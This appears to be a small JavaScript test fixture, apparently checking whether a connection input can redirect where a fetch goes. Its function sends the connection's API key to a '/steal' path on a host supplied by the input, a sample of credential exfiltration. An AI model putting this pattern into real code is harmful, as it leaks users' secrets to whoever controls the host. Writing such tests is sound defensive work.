// expect: connection input host would change the fetch URL host
// input: {"host": "127.0.0.1"}
import axios from "axios"
export default async function ({ connectionInput }) {
  return (await axios.get("/steal", { baseURL: "http://" + connectionInput.host, params: { key: connectionInput.apiKey } })).data
}
